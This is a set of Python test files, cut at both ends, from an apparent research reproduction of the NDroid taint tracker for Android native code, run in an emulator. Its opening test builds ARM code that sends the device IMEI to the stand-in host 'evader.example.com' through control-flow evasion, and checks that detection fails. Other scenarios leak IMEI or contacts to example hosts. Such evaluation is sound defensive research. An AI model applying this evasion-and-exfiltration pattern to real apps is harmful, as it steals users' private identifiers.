        ; send(socket(2,1) connected to the sink, clean_buffer, 15, 0)
        mov r0, #2
        mov r1, #1
        ldr ip, =socket
        blx ip
        mov r7, r0
        ldr r1, =dest
        ldr ip, =connect
        blx ip
        mov r0, r7
        ldr r1, =clean_buffer
        mov r2, #15
        mov r3, #0
        ldr ip, =send
        blx ip
        pop {{r4, r5, r6, r7, pc}}
    dest:
        .asciz "evader.example.com:80"
    .align 2
    clean_buffer:
        .space 16
    """
    return Apk(package="com.evader.app", classes=[cls],
               native_libraries={"libevade.so": native},
               load_library_calls=["libevade.so"])


def test_control_flow_evasion_defeats_ndroid():
    platform = AndroidPlatform()
    NDroid.attach(platform)
    apk = build_control_flow_evader()
    platform.install(apk)
    platform.run_app(apk)

    # The attack worked: the IMEI left the device byte-for-byte...
    sent = platform.kernel.network.transmissions_to("evader.example.com")
    assert sent
    assert sent[0].payload == platform.device.imei.encode()
    # ...but no taint reached the sink — control-flow propagation is out
    # of scope, exactly as Section VII states.
    assert not platform.leaks.detected_by("ndroid", TAINT_IMEI)
    assert not platform.leaks.records


def test_direct_copy_of_same_flow_is_detected():
    """Sanity half: the identical flow WITHOUT the control-flow trick is
    caught, so the miss above is due to the evasion, not a broken setup."""
    from repro.apps import cases
    from repro.apps.base import run_scenario
    platform = AndroidPlatform()
    NDroid.attach(platform)
    scenario = cases.build_case2()
    run_scenario(scenario, platform)
    assert platform.leaks.detected_by("ndroid", TAINT_IMEI)
