"""Several apps on one device: shared platform, per-app attribution."""

import pytest

from repro.apps import ALL_SCENARIOS
from repro.common.taint import TAINT_CONTACTS, TAINT_IMEI
from repro.core import NDroid
from repro.framework import AndroidPlatform


def test_two_leaking_apps_on_one_device():
    platform = AndroidPlatform()
    NDroid.attach(platform)
    case2 = ALL_SCENARIOS["case2"]()
    poc2 = ALL_SCENARIOS["poc_case2"]()
    platform.install(case2.apk)
    platform.install(poc2.apk)
    platform.run_app(case2.apk)
    platform.run_app(poc2.apk)
    # Both leaks detected, attributable by destination.
    destinations = {r.destination for r in platform.leaks.records}
    assert any("case2.collect.example.com" in d for d in destinations)
    assert any("/sdcard/CONTACTS" in d for d in destinations)
    # Taints are per-flow, not smeared across apps.
    for record in platform.leaks.records:
        if "case2.collect" in record.destination:
            assert record.taint & TAINT_IMEI
            assert not record.taint & TAINT_CONTACTS


def test_leaking_and_benign_app_coexist():
    platform = AndroidPlatform()
    NDroid.attach(platform)
    benign = ALL_SCENARIOS["benign"]()
    case1p = ALL_SCENARIOS["case1_prime"]()
    platform.install(benign.apk)
    platform.install(case1p.apk)
    platform.run_app(benign.apk)
    before = len(platform.leaks)
    assert before == 0          # benign first: nothing flagged
    platform.run_app(case1p.apk)
    assert len(platform.leaks) > before
    # The benign app's traffic is still unflagged.
    assert all("stats.example.com" not in r.destination
               for r in platform.leaks.records)


def test_libraries_load_at_distinct_bases():
    platform = AndroidPlatform()
    NDroid.attach(platform)
    first = ALL_SCENARIOS["case1"]()
    second = ALL_SCENARIOS["case2"]()
    platform.install(first.apk)
    platform.install(second.apk)
    platform.run_app(first.apk)
    platform.run_app(second.apk)
    lib1 = platform.emu.memory_map.find_by_name("libcase1.so")
    lib2 = platform.emu.memory_map.find_by_name("libcase2.so")
    assert lib1 and lib2
    assert not lib1.overlaps(lib2)
    # Both are visible to the OS-level view as third-party modules.
    view = platform.ndroid.view_reconstructor
    assert view.is_third_party(lib1.start)
    assert view.is_third_party(lib2.start)
