"""Table I end-to-end: which analysis detects which leak scenario.

Ground truth first: every leak scenario really transmits the sensitive
data (checked against the kernel's network/file records).  Then the
detection matrix: TaintDroid alone catches only case 1; TaintDroid+NDroid
catches every case; neither flags the benign control app.
"""

import pytest

from repro.apps import ALL_SCENARIOS
from repro.apps.base import run_scenario
from repro.core import NDroid
from repro.framework import AndroidPlatform
from repro.taintdroid import TaintDroid

LEAK_SCENARIOS = ["case1", "case1_prime", "case2", "case3", "case4",
                  "case2_thumb", "qqphonebook", "ephone", "poc_case2",
                  "poc_case3"]


def run_under(scenario_name, config):
    scenario = ALL_SCENARIOS[scenario_name]()
    platform = AndroidPlatform()
    if config == "taintdroid":
        TaintDroid.attach(platform)
    elif config == "ndroid":
        NDroid.attach(platform)
    elif config != "vanilla":
        raise ValueError(config)
    run_scenario(scenario, platform)
    return scenario, platform


def leaked_payload(platform, scenario):
    """The sensitive bytes that actually left the device (ground truth)."""
    destination = scenario.expected_destination
    if destination.startswith("/"):
        if not platform.kernel.filesystem.exists(destination):
            return b""
        file = platform.kernel.filesystem.lookup(destination)
        return bytes(file.data)
    chunks = [t.payload for t in
              platform.kernel.network.transmissions_to(destination)]
    return b"".join(chunks)


class TestGroundTruth:
    """The scenarios really do exfiltrate data, regardless of analysis."""

    @pytest.mark.parametrize("name", LEAK_SCENARIOS)
    def test_sensitive_data_leaves_device(self, name):
        scenario, platform = run_under(name, "vanilla")
        payload = leaked_payload(platform, scenario)
        assert payload, f"{name}: nothing reached {scenario.expected_destination}"
        device = platform.device
        sensitive_fragments = {
            "case1": device.imei, "case1_prime": device.imei,
            "case2": device.imei, "case3": device.imei,
            "case4": device.imei,
            "case2_thumb": device.imsi,
            "qqphonebook": "Vincent",          # contacts in the sid blob
            "ephone": "Vincent",
            "poc_case2": "cx@gg.com",
            "poc_case3": device.line1_number,
        }
        assert sensitive_fragments[name].encode() in payload

    def test_benign_app_transmits_only_clean_data(self):
        scenario, platform = run_under("benign", "vanilla")
        sent = platform.kernel.network.transmissions_to("stats.example.com")
        assert sent and sent[0].payload == b"hello=world&version=3"


class TestDetectionMatrix:
    """The paper's core claim (Section IV + VI)."""

    @pytest.mark.parametrize("name", LEAK_SCENARIOS)
    def test_taintdroid_alone(self, name):
        scenario, platform = run_under(name, "taintdroid")
        detected = platform.leaks.detected_by("taintdroid",
                                              scenario.expected_taint)
        assert detected == scenario.taintdroid_alone_detects, (
            f"{name}: TaintDroid-alone detection should be "
            f"{scenario.taintdroid_alone_detects}, leaks:\n"
            f"{platform.leaks.summary()}")

    @pytest.mark.parametrize("name", LEAK_SCENARIOS)
    def test_ndroid_detects_every_case(self, name):
        scenario, platform = run_under(name, "ndroid")
        records = [r for r in platform.leaks.records
                   if r.taint & scenario.expected_taint]
        assert records, (f"{name}: NDroid missed the leak; log tail:\n" +
                         "\n".join(e.format()
                                   for e in list(platform.event_log)[-25:]))
        destinations = " ".join(r.destination for r in records)
        assert scenario.expected_destination.split(":")[0] in destinations

    @pytest.mark.parametrize("config", ["vanilla", "taintdroid", "ndroid"])
    def test_benign_app_never_flagged(self, config):
        scenario, platform = run_under("benign", config)
        assert len(platform.leaks) == 0, platform.leaks.summary()

    def test_only_case1_detected_by_taintdroid(self):
        detected = []
        for name in LEAK_SCENARIOS:
            scenario, platform = run_under(name, "taintdroid")
            if platform.leaks.detected_by("taintdroid",
                                          scenario.expected_taint):
                detected.append(name)
        assert detected == ["case1"]

    def test_vanilla_detects_nothing(self):
        for name in LEAK_SCENARIOS:
            __, platform = run_under(name, "vanilla")
            assert len(platform.leaks) == 0
