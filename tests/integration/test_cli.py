"""CLI tests (``python -m repro``)."""

import pytest

from repro.cli import main


def test_list(capsys):
    assert main(["list"]) == 0
    out = capsys.readouterr().out
    assert "qqphonebook" in out
    assert "case2_thumb" in out


def test_scenario_runs_and_reports(capsys):
    assert main(["scenario", "case2", "--config", "ndroid"]) == 0
    out = capsys.readouterr().out
    assert "detected: True" in out
    assert "case2.collect.example.com" in out


def test_scenario_taintdroid_misses_case2(capsys):
    assert main(["scenario", "case2", "--config", "taintdroid"]) == 0
    out = capsys.readouterr().out
    assert "detected: False" in out


def test_scenario_with_log(capsys):
    assert main(["scenario", "case1", "--log"]) == 0
    out = capsys.readouterr().out
    assert "dvmCallJNIMethod" in out


def test_unknown_scenario(capsys):
    assert main(["scenario", "nope"]) == 2
    assert "unknown scenario" in capsys.readouterr().err


def test_matrix(capsys):
    assert main(["matrix"]) == 0
    out = capsys.readouterr().out
    lines = [line for line in out.splitlines() if line.startswith("case1 ")]
    assert lines and "detected" in lines[0]
    miss_lines = [line for line in out.splitlines()
                  if line.startswith("case2 ")]
    assert miss_lines and "missed" in miss_lines[0]


def test_corpus(capsys):
    assert main(["corpus", "--scale", "0.01"]) == 0
    out = capsys.readouterr().out
    assert "type I" in out
    assert "Game" in out


def test_bench_smoke(capsys):
    assert main(["bench", "--iterations", "40", "--repeats", "1"]) == 0
    out = capsys.readouterr().out
    assert "NDroid slowdown" in out
    assert "Overall Score" in out
