"""Direct unit tests for the printf/scanf engine's taint bookkeeping."""

import pytest

from repro.common.taint import TAINT_CONTACTS, TAINT_IMEI, TAINT_SMS
from repro.libc.stdio_format import FormatError, format_with_taints, sscanf_parse
from repro.memory import Memory


def fmt(memory, format_bytes, args, arg_taints=None, string_taints=None):
    arg_taints = arg_taints or {}
    string_taints = string_taints or {}

    def taints_of(address, length):
        labels = string_taints.get(address)
        if labels is None:
            return [0] * length
        return (labels + [0] * length)[:length]

    return format_with_taints(
        memory, format_bytes,
        read_vararg=lambda i: args[i],
        vararg_taint=lambda i: arg_taints.get(i, 0),
        string_taints=taints_of)


class TestFormat:
    def test_plain_text_untainted(self):
        data, taints = fmt(Memory(), b"hello %% world", [])
        assert data == b"hello % world"
        assert all(t == 0 for t in taints)

    def test_int_conversions(self):
        data, __ = fmt(Memory(), b"%d %i %u %x %X %c",
                       [(-5) & 0xFFFFFFFF, 7, 0xFFFFFFFF, 255, 255,
                        ord("Z")])
        assert data == b"-5 7 4294967295 ff FF Z"

    def test_int_taint_covers_rendered_digits(self):
        data, taints = fmt(Memory(), b"n=%d", [1234],
                           arg_taints={0: TAINT_IMEI})
        assert data == b"n=1234"
        assert taints[:2] == [0, 0]
        assert all(t == TAINT_IMEI for t in taints[2:])

    def test_string_bytes_keep_their_own_taints(self):
        memory = Memory()
        memory.write_cstring(0x100, "ab")
        data, taints = fmt(memory, b"[%s]", [0x100],
                           string_taints={0x100: [TAINT_SMS, 0]})
        assert data == b"[ab]"
        assert taints == [0, TAINT_SMS, 0, 0]

    def test_pointer_taint_unions_into_string(self):
        memory = Memory()
        memory.write_cstring(0x100, "x")
        __, taints = fmt(memory, b"%s", [0x100],
                         arg_taints={0: TAINT_CONTACTS})
        assert taints == [TAINT_CONTACTS]

    def test_width_padding_is_untainted(self):
        memory = Memory()
        memory.write_cstring(0x100, "ab")
        data, taints = fmt(memory, b"%5s", [0x100],
                           string_taints={0x100: [TAINT_SMS, TAINT_SMS]})
        assert data == b"   ab"
        assert taints == [0, 0, 0, TAINT_SMS, TAINT_SMS]

    def test_precision_truncates_taints(self):
        memory = Memory()
        memory.write_cstring(0x100, "abcdef")
        data, taints = fmt(memory, b"%.3s", [0x100],
                           string_taints={0x100: [TAINT_SMS] * 6})
        assert data == b"abc"
        assert taints == [TAINT_SMS] * 3

    def test_double_consumes_two_words(self):
        import struct
        low, high = struct.unpack("<II", struct.pack("<d", 2.5))
        data, taints = fmt(Memory(), b"%.1f %d", [low, high, 7],
                           arg_taints={1: TAINT_IMEI})
        assert data == b"2.5 7"
        assert taints[0] == TAINT_IMEI  # either word's taint spreads

    def test_pointer_conversion(self):
        data, __ = fmt(Memory(), b"%p", [0xDEAD])
        assert data == b"0xdead"

    def test_dangling_percent_rejected(self):
        with pytest.raises(FormatError):
            fmt(Memory(), b"oops %", [])

    def test_unsupported_conversion_rejected(self):
        with pytest.raises(FormatError):
            fmt(Memory(), b"%q", [0])

    def test_length_modifiers_stripped(self):
        data, __ = fmt(Memory(), b"%ld %llu", [5, 6])
        assert data == b"5 6"


class TestSscanf:
    def test_mixed_conversions(self):
        memory = Memory()
        count = sscanf_parse(memory, b"id=42 name=bob x", b"id=%d name=%s",
                             [0x100, 0x200])
        assert count == 2
        assert memory.read_i32(0x100) == 42
        assert memory.read_cstring(0x200) == b"bob"

    def test_hex_and_char(self):
        memory = Memory()
        count = sscanf_parse(memory, b"ff Q", b"%x %c", [0x100, 0x200])
        assert count == 2
        assert memory.read_u32(0x100) == 255
        assert memory.read_u8(0x200) == ord("Q")

    def test_negative_numbers(self):
        memory = Memory()
        sscanf_parse(memory, b"-17", b"%d", [0x100])
        assert memory.read_i32(0x100) == -17

    def test_stops_at_mismatch(self):
        memory = Memory()
        count = sscanf_parse(memory, b"a=1 b=x", b"a=%d b=%d",
                             [0x100, 0x200])
        assert count == 1

    def test_literal_mismatch_stops_early(self):
        memory = Memory()
        assert sscanf_parse(memory, b"foo", b"bar%d", [0x100]) == 0

    def test_too_few_pointers_rejected(self):
        with pytest.raises(FormatError):
            sscanf_parse(Memory(), b"1 2", b"%d %d", [0x100])
