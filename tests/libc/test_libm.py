"""Tests for the modelled libm (soft-float calling convention)."""

import math
import struct

import pytest

from repro.emulator import Emulator
from repro.libc import MathLibrary

STACK_TOP = 0x0800_0000


@pytest.fixture
def libm_env():
    emu = Emulator()
    emu.cpu.sp = STACK_TOP
    libm = MathLibrary(emu)
    return emu, libm


def pack_double(value):
    return struct.unpack("<II", struct.pack("<d", value))


def unpack_double(low, high):
    return struct.unpack("<d", struct.pack("<II", low, high))[0]


def pack_float(value):
    return struct.unpack("<I", struct.pack("<f", value))[0]


def unpack_float(word):
    return struct.unpack("<f", struct.pack("<I", word))[0]


def call_double_unary(env, name, x):
    emu, libm = env
    low, high = pack_double(x)
    emu.call(libm.address_of(name), args=(low, high))
    return unpack_double(emu.cpu.regs[0], emu.cpu.regs[1])


def call_double_binary(env, name, x, y):
    emu, libm = env
    lx, hx = pack_double(x)
    ly, hy = pack_double(y)
    emu.call(libm.address_of(name), args=(lx, hx, ly, hy))
    return unpack_double(emu.cpu.regs[0], emu.cpu.regs[1])


@pytest.mark.parametrize("name,x", [
    ("sin", 1.0), ("cos", 0.5), ("sqrt", 2.0), ("floor", 2.7),
    ("log", 10.0), ("exp", 1.5), ("ceil", 2.1), ("tan", 0.3),
    ("acos", 0.2), ("log10", 1000.0), ("atan", 1.0), ("asin", 0.4),
    ("sinh", 0.9), ("cosh", 0.9),
])
def test_double_unary(libm_env, name, x):
    expected = getattr(math, name)(x)
    assert call_double_unary(libm_env, name, x) == pytest.approx(expected)


@pytest.mark.parametrize("name,x,y", [
    ("pow", 2.0, 10.0), ("atan2", 1.0, 2.0), ("fmod", 7.5, 2.0),
    ("ldexp", 1.5, 3.0),
])
def test_double_binary(libm_env, name, x, y):
    if name == "ldexp":
        expected = math.ldexp(x, int(y))
    else:
        expected = getattr(math, name)(x, y)
    assert call_double_binary(libm_env, name, x, y) == pytest.approx(expected)


@pytest.mark.parametrize("name,x", [
    ("sinf", 1.0), ("cosf", 0.5), ("sqrtf", 2.0), ("expf", 1.0),
])
def test_float_unary(libm_env, name, x):
    emu, libm = libm_env
    result = emu.call(libm.address_of(name), args=(pack_float(x),))
    expected = getattr(math, name[:-1])(x)
    assert unpack_float(result) == pytest.approx(expected, rel=1e-6)


def test_powf(libm_env):
    emu, libm = libm_env
    result = emu.call(libm.address_of("powf"),
                      args=(pack_float(2.0), pack_float(8.0)))
    assert unpack_float(result) == pytest.approx(256.0)


def test_domain_error_yields_nan(libm_env):
    result = call_double_unary(libm_env, "sqrt", -1.0)
    assert math.isnan(result)


def test_strtod(libm_env):
    emu, libm = libm_env
    emu.memory.write_cstring(0x2000, "3.25xyz")
    emu.call(libm.address_of("strtod"), args=(0x2000,))
    assert unpack_double(emu.cpu.regs[0], emu.cpu.regs[1]) == 3.25


def test_strtol(libm_env):
    emu, libm = libm_env
    emu.memory.write_cstring(0x2000, "1234")
    assert emu.call(libm.address_of("strtol"),
                    args=(0x2000, 0, 10)) == 1234
