"""Tests for the modelled libc, driven from emulated ARM code."""

import pytest

from repro.common.errors import KernelError
from repro.cpu.assembler import assemble
from repro.emulator import Emulator
from repro.kernel import Kernel
from repro.libc import CLibrary

CODE_BASE = 0x0001_0000
DATA_BASE = 0x0003_0000
STACK_TOP = 0x0800_0000


@pytest.fixture
def platform():
    emu = Emulator()
    kernel = Kernel(emu.memory, event_log=emu.event_log)
    kernel.spawn_process("com.example.app")
    emu.syscall_handler = kernel.handle_svc
    libc = CLibrary(emu, kernel)
    emu.cpu.sp = STACK_TOP
    return emu, kernel, libc


def call_libc(platform, name, *args):
    emu, kernel, libc = platform
    return emu.call(libc.address_of(name), args=args)


class TestMemoryFunctions:
    def test_malloc_free(self, platform):
        emu, _, libc = platform
        pointer = call_libc(platform, "malloc", 64)
        assert pointer != 0
        assert libc.heap.size_of(pointer) == 64
        call_libc(platform, "free", pointer)
        assert libc.heap.size_of(pointer) is None

    def test_malloc_zero_returns_null(self, platform):
        assert call_libc(platform, "malloc", 0) == 0

    def test_calloc_zeroes(self, platform):
        emu, _, _ = platform
        emu.memory.write_bytes(0x5800_0000, b"\xff" * 64)
        pointer = call_libc(platform, "calloc", 4, 8)
        assert emu.memory.read_bytes(pointer, 32) == b"\x00" * 32

    def test_realloc_copies(self, platform):
        emu, _, _ = platform
        pointer = call_libc(platform, "malloc", 8)
        emu.memory.write_bytes(pointer, b"12345678")
        bigger = call_libc(platform, "realloc", pointer, 32)
        assert emu.memory.read_bytes(bigger, 8) == b"12345678"

    def test_memcpy_memmove_memset(self, platform):
        emu, _, _ = platform
        emu.memory.write_bytes(DATA_BASE, b"hello")
        call_libc(platform, "memcpy", DATA_BASE + 16, DATA_BASE, 5)
        assert emu.memory.read_bytes(DATA_BASE + 16, 5) == b"hello"
        call_libc(platform, "memset", DATA_BASE, 0x2A, 4)
        assert emu.memory.read_bytes(DATA_BASE, 4) == b"****"
        call_libc(platform, "memmove", DATA_BASE + 17, DATA_BASE + 16, 5)
        assert emu.memory.read_bytes(DATA_BASE + 17, 5) == b"hello"

    def test_memcmp(self, platform):
        emu, _, _ = platform
        emu.memory.write_bytes(DATA_BASE, b"abc")
        emu.memory.write_bytes(DATA_BASE + 8, b"abd")
        assert call_libc(platform, "memcmp", DATA_BASE, DATA_BASE, 3) == 0
        assert call_libc(platform, "memcmp", DATA_BASE, DATA_BASE + 8, 3) != 0

    def test_memchr(self, platform):
        emu, _, _ = platform
        emu.memory.write_bytes(DATA_BASE, b"abcdef")
        found = call_libc(platform, "memchr", DATA_BASE, ord("d"), 6)
        assert found == DATA_BASE + 3
        assert call_libc(platform, "memchr", DATA_BASE, ord("z"), 6) == 0


class TestStringFunctions:
    def _put(self, platform, address, text):
        platform[0].memory.write_cstring(address, text)

    def test_strlen_strcmp(self, platform):
        self._put(platform, DATA_BASE, "hello")
        self._put(platform, DATA_BASE + 32, "hellp")
        assert call_libc(platform, "strlen", DATA_BASE) == 5
        assert call_libc(platform, "strcmp", DATA_BASE, DATA_BASE) == 0
        assert call_libc(platform, "strcmp", DATA_BASE, DATA_BASE + 32) != 0
        assert call_libc(platform, "strncmp", DATA_BASE, DATA_BASE + 32, 4) == 0

    def test_strcasecmp(self, platform):
        self._put(platform, DATA_BASE, "Hello")
        self._put(platform, DATA_BASE + 32, "hELLO")
        assert call_libc(platform, "strcasecmp", DATA_BASE, DATA_BASE + 32) == 0

    def test_strcpy_strcat(self, platform):
        emu, _, _ = platform
        self._put(platform, DATA_BASE, "foo")
        self._put(platform, DATA_BASE + 32, "bar")
        call_libc(platform, "strcpy", DATA_BASE + 64, DATA_BASE)
        call_libc(platform, "strcat", DATA_BASE + 64, DATA_BASE + 32)
        assert emu.memory.read_cstring(DATA_BASE + 64) == b"foobar"

    def test_strncpy_pads(self, platform):
        emu, _, _ = platform
        self._put(platform, DATA_BASE, "ab")
        call_libc(platform, "strncpy", DATA_BASE + 32, DATA_BASE, 5)
        assert emu.memory.read_bytes(DATA_BASE + 32, 5) == b"ab\x00\x00\x00"

    def test_strchr_strrchr_strstr(self, platform):
        self._put(platform, DATA_BASE, "abcabc")
        assert call_libc(platform, "strchr", DATA_BASE, ord("b")) == DATA_BASE + 1
        assert call_libc(platform, "strrchr", DATA_BASE, ord("b")) == DATA_BASE + 4
        self._put(platform, DATA_BASE + 32, "cab")
        assert call_libc(platform, "strstr", DATA_BASE, DATA_BASE + 32) == \
            DATA_BASE + 2
        self._put(platform, DATA_BASE + 32, "zzz")
        assert call_libc(platform, "strstr", DATA_BASE, DATA_BASE + 32) == 0

    def test_strdup(self, platform):
        emu, _, _ = platform
        self._put(platform, DATA_BASE, "dup me")
        copy = call_libc(platform, "strdup", DATA_BASE)
        assert copy != DATA_BASE
        assert emu.memory.read_cstring(copy) == b"dup me"

    def test_atoi_strtoul(self, platform):
        self._put(platform, DATA_BASE, "  -123abc")
        assert call_libc(platform, "atoi", DATA_BASE) == (-123) & 0xFFFFFFFF
        self._put(platform, DATA_BASE, "0xff")
        assert call_libc(platform, "strtoul", DATA_BASE, 0, 16) == 255

    def test_sprintf(self, platform):
        emu, _, _ = platform
        self._put(platform, DATA_BASE, "%s=%d")
        self._put(platform, DATA_BASE + 32, "count")
        call_libc(platform, "sprintf", DATA_BASE + 64, DATA_BASE,
                  DATA_BASE + 32, 7)
        assert emu.memory.read_cstring(DATA_BASE + 64) == b"count=7"

    def test_snprintf_clips(self, platform):
        emu, _, _ = platform
        self._put(platform, DATA_BASE, "%s")
        self._put(platform, DATA_BASE + 32, "longvalue")
        result = call_libc(platform, "snprintf", DATA_BASE + 64, 5,
                           DATA_BASE, DATA_BASE + 32)
        assert result == 9  # would-be length, like C snprintf
        assert emu.memory.read_cstring(DATA_BASE + 64) == b"long"

    def test_sscanf(self, platform):
        emu, _, _ = platform
        self._put(platform, DATA_BASE, "id=42 name=bob")
        self._put(platform, DATA_BASE + 32, "id=%d name=%s")
        count = call_libc(platform, "sscanf", DATA_BASE, DATA_BASE + 32,
                          DATA_BASE + 64, DATA_BASE + 96)
        assert count == 2
        assert emu.memory.read_i32(DATA_BASE + 64) == 42
        assert emu.memory.read_cstring(DATA_BASE + 96) == b"bob"


class TestStdio:
    def test_fopen_fprintf_fclose(self, platform):
        emu, kernel, _ = platform
        emu.memory.write_cstring(DATA_BASE, "/sdcard/out.txt")
        emu.memory.write_cstring(DATA_BASE + 32, "w")
        file_pointer = call_libc(platform, "fopen", DATA_BASE, DATA_BASE + 32)
        assert file_pointer != 0
        emu.memory.write_cstring(DATA_BASE + 64, "n=%d")
        call_libc(platform, "fprintf", file_pointer, DATA_BASE + 64, 5)
        call_libc(platform, "fclose", file_pointer)
        assert kernel.filesystem.read_text("/sdcard/out.txt") == "n=5"

    def test_fopen_missing_read_returns_null(self, platform):
        emu, _, _ = platform
        emu.memory.write_cstring(DATA_BASE, "/sdcard/none.txt")
        emu.memory.write_cstring(DATA_BASE + 32, "r")
        assert call_libc(platform, "fopen", DATA_BASE, DATA_BASE + 32) == 0

    def test_fwrite_fread_roundtrip(self, platform):
        emu, _, _ = platform
        emu.memory.write_cstring(DATA_BASE, "/sdcard/blob")
        emu.memory.write_cstring(DATA_BASE + 32, "w")
        fp = call_libc(platform, "fopen", DATA_BASE, DATA_BASE + 32)
        emu.memory.write_bytes(DATA_BASE + 64, b"ABCD")
        assert call_libc(platform, "fwrite", DATA_BASE + 64, 1, 4, fp) == 4
        call_libc(platform, "fclose", fp)

        emu.memory.write_cstring(DATA_BASE + 32, "r")
        fp = call_libc(platform, "fopen", DATA_BASE, DATA_BASE + 32)
        assert call_libc(platform, "fread", DATA_BASE + 96, 1, 10, fp) == 4
        assert emu.memory.read_bytes(DATA_BASE + 96, 4) == b"ABCD"

    def test_fgets_reads_line(self, platform):
        emu, kernel, _ = platform
        kernel.filesystem.write_text("/sdcard/lines", "one\ntwo\n")
        emu.memory.write_cstring(DATA_BASE, "/sdcard/lines")
        emu.memory.write_cstring(DATA_BASE + 32, "r")
        fp = call_libc(platform, "fopen", DATA_BASE, DATA_BASE + 32)
        assert call_libc(platform, "fgets", DATA_BASE + 64, 64, fp) != 0
        assert emu.memory.read_cstring(DATA_BASE + 64) == b"one\n"

    def test_getc_and_eof(self, platform):
        emu, kernel, _ = platform
        kernel.filesystem.write_text("/sdcard/c", "Z")
        emu.memory.write_cstring(DATA_BASE, "/sdcard/c")
        emu.memory.write_cstring(DATA_BASE + 32, "r")
        fp = call_libc(platform, "fopen", DATA_BASE, DATA_BASE + 32)
        assert call_libc(platform, "getc", fp) == ord("Z")
        assert call_libc(platform, "getc", fp) == 0xFFFF_FFFF


class TestSocketsAndMisc:
    def test_socket_connect_send(self, platform):
        emu, kernel, _ = platform
        fd = call_libc(platform, "socket", 2, 1)
        emu.memory.write_cstring(DATA_BASE, "info.3g.qq.com:80")
        call_libc(platform, "connect", fd, DATA_BASE)
        emu.memory.write_bytes(DATA_BASE + 32, b"GET /")
        assert call_libc(platform, "send", fd, DATA_BASE + 32, 5, 0) == 5
        assert kernel.network.transmissions[0].payload == b"GET /"

    def test_sendto(self, platform):
        emu, kernel, _ = platform
        fd = call_libc(platform, "socket", 2, 2)
        emu.memory.write_bytes(DATA_BASE, b"SIP")
        emu.memory.write_cstring(DATA_BASE + 32, "softphone.comwave.net:5060")
        call_libc(platform, "sendto", fd, DATA_BASE, 3, 0, DATA_BASE + 32, 0)
        assert kernel.network.transmissions_to("comwave")[0].payload == b"SIP"

    def test_recv(self, platform):
        emu, kernel, _ = platform
        fd = call_libc(platform, "socket", 2, 1)
        emu.memory.write_cstring(DATA_BASE, "server:80")
        call_libc(platform, "connect", fd, DATA_BASE)
        kernel.network.queue_response("server:80", b"OK")
        assert call_libc(platform, "recv", fd, DATA_BASE + 64, 16, 0) == 2
        assert emu.memory.read_bytes(DATA_BASE + 64, 2) == b"OK"

    def test_sysconf(self, platform):
        assert call_libc(platform, "sysconf", 39) == 4096

    def test_mkdir_rename_remove(self, platform):
        emu, kernel, _ = platform
        emu.memory.write_cstring(DATA_BASE, "/sdcard/d")
        assert call_libc(platform, "mkdir", DATA_BASE, 0o777) == 0
        kernel.filesystem.write_text("/sdcard/d/f", "x")
        emu.memory.write_cstring(DATA_BASE, "/sdcard/d/f")
        emu.memory.write_cstring(DATA_BASE + 32, "/sdcard/d/g")
        assert call_libc(platform, "rename", DATA_BASE, DATA_BASE + 32) == 0
        assert call_libc(platform, "remove", DATA_BASE + 32) == 0
        assert not kernel.filesystem.exists("/sdcard/d/g")

    def test_called_from_assembled_code(self, platform):
        """Native code that strlen()s a string through the PLT-style call."""
        emu, kernel, libc = platform
        program = assemble("""
        main:
            push {lr}
            ldr r0, =message
            ldr r3, =strlen
            blx r3
            pop {pc}
        message:
            .asciz "four"
        """, base=CODE_BASE, externs=libc.symbols)
        emu.load(CODE_BASE, program.code)
        assert emu.call(program.entry("main")) == 4
