"""Heap, moving-GC and indirect-reference-table tests.

These pin down the behaviour that motivates NDroid's iref-keyed shadow
memory: after a collection every direct pointer changes, but irefs decode
to the object's new location.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.common.errors import DalvikError, JNIError
from repro.common.taint import TAINT_SMS
from repro.dalvik import ClassDef, DalvikVM, IndirectRefTable, MethodBuilder
from repro.dalvik.heap import Slot
from repro.memory import Memory


@pytest.fixture
def vm():
    return DalvikVM(Memory())


class TestHeap:
    def test_string_bytes_in_guest_memory(self, vm):
        record = vm.heap.alloc_string("hello")
        data = vm.memory.read_cstring(record.data_address())
        assert data == b"hello"
        assert vm.memory.read_u32(record.address + 4) == 5  # length header

    def test_array_elements_synced(self, vm):
        record = vm.heap.alloc_array("I", 3)
        record.elements[1].value = 42
        vm.heap.sync_array_to_memory(record)
        assert vm.memory.read_u32(record.data_address() + 4) == 42

    def test_stale_pointer_detected(self, vm):
        with pytest.raises(DalvikError):
            vm.heap.get(0xDEAD_BEEF)

    def test_string_taint_storage(self, vm):
        record = vm.heap.alloc_string("sms body", taint=TAINT_SMS)
        assert record.taint == TAINT_SMS


class TestMovingGC:
    def test_live_object_moves_and_is_reachable(self, vm):
        iref_table = vm.irt
        record = vm.heap.alloc_string("survivor")
        iref = iref_table.add_global(record.address)
        old_address = record.address
        moved = vm.gc()
        assert moved == 1
        assert record.address != old_address
        assert iref_table.decode(iref) == record.address
        assert vm.heap.get(record.address).text == "survivor"
        # The bytes moved too.
        assert vm.memory.read_cstring(record.data_address()) == b"survivor"

    def test_unreferenced_object_collected(self, vm):
        vm.heap.alloc_string("garbage")
        kept = vm.heap.alloc_string("kept")
        vm.irt.add_global(kept.address)
        vm.gc()
        assert vm.heap.live_objects == 1

    def test_direct_pointer_goes_stale_after_gc(self, vm):
        record = vm.heap.alloc_string("moving")
        vm.irt.add_global(record.address)
        old_address = record.address
        vm.gc()
        with pytest.raises(DalvikError):
            vm.heap.get(old_address)

    def test_frame_references_updated(self, vm):
        cls = ClassDef("LTest;")
        vm.register_class(cls)
        record = vm.heap.alloc_string("in frame")
        frame = vm.stack.push_frame(
            MethodBuilder("LTest;", "m", "V", static=True,
                          registers=2).ret_void().build())
        frame.set(0, record.address, TAINT_SMS, is_ref=True)
        vm.gc()
        assert frame.get(0) == record.address
        assert frame.get_taint(0) == TAINT_SMS  # taint survives the move
        assert vm.heap.get(frame.get(0)).text == "in frame"
        vm.stack.pop_frame()

    def test_object_graph_traversal(self, vm):
        cls = ClassDef("LNode;")
        cls.add_instance_field("next", "L")
        vm.register_class(cls)
        leaf = vm.heap.alloc_string("leaf")
        node = vm.new_instance("LNode;")
        node.fields["next"] = Slot(leaf.address, 0, True)
        vm.irt.add_global(node.address)
        vm.gc()
        assert vm.heap.live_objects == 2
        assert vm.heap.get(node.fields["next"].value).text == "leaf"

    def test_array_of_references_updated(self, vm):
        element = vm.heap.alloc_string("elem")
        array = vm.heap.alloc_array("L", 2)
        array.elements[0] = Slot(element.address, 0, True)
        vm.heap.sync_array_to_memory(array)
        vm.irt.add_global(array.address)
        vm.gc()
        new_element_address = array.elements[0].value
        assert vm.heap.get(new_element_address).text == "elem"
        # Guest-memory mirror updated as well.
